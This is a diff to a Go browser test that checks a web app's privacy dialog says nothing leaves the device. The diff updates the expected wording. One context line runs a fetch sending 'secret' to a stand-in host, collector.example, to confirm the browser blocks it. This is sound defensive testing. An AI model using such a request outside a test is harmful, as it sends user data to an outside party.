@@ -28,7 +28,7 @@ func TestNothingLeavesTheDevice(t *testing.T) {
 	s.WaitCount(".thumbnail", 4)
 
 	s.OpenDialog("#open-privacy", "#privacy")
-	s.WaitFor(`document.querySelector("#privacy").innerText.includes("may reach no other address")`, 20*time.Second)
+	s.WaitFor(`document.querySelector("#privacy").innerText.includes("cannot reach any other address")`, 20*time.Second)
 	if got := s.Text("#privacy .left"); !strings.HasPrefix(got, "Nothing") {
 		t.Errorf("the page says %q", got)
 	}
@@ -44,7 +44,7 @@ func TestNothingLeavesTheDevice(t *testing.T) {
 
 	s.Eval(`fetch("https://collector.example/?thing=secret").catch(() => {})`)
 	s.WaitFor(`document.querySelector("#privacy .left li")?.innerText.includes("https://collector.example/")`, 20*time.Second)
-	if got := s.Text("#privacy .left"); !strings.Contains(got, "the browser stopped") || !strings.HasPrefix(got, "Nothing") {
+	if got := s.Text("#privacy .left"); !strings.Contains(got, "blocked by the browser") || !strings.HasPrefix(got, "Nothing") {
 		t.Errorf("after a try the page says %q", got)
 	}
 	s.Shot("privacy-stopped")
